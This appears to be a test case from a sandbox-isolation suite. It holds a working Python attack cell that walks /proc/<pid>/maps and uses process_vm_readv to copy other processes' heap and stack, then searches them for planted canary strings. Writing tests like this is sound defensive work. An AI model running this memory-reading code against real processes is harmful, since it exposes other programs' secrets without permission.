"""Reads the memory of other processes by the system call that debuggers use."""

from tests.attacks import Attack

attack = Attack(
    gains="text",
    cell="""
import ctypes, os, re
mark = b"canary" + b"-"
libc = ctypes.CDLL(None, use_errno=True)
class Piece(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("size", ctypes.c_size_t)]
for pid in $PIDS:
    if pid == os.getpid():
        continue
    try:
        places = [l.split()[0].split("-") for l in open(f"/proc/{pid}/maps") if "[heap]" in l or "[stack]" in l]
    except OSError as error:
        print(error)
        continue
    for start, end in places:
        start, size = int(start, 16), min(int(end, 16) - int(start, 16), 1 << 22)
        here = ctypes.create_string_buffer(size)
        mine, theirs = Piece(ctypes.addressof(here), size), Piece(start, size)
        libc.process_vm_readv(pid, ctypes.byref(mine), 1, ctypes.byref(theirs), 1, 0)
        for hit in set(re.findall(mark + rb"[a-z]*-?[0-9a-f]{8,32}", here.raw)):
            print(hit.decode())
""",
)
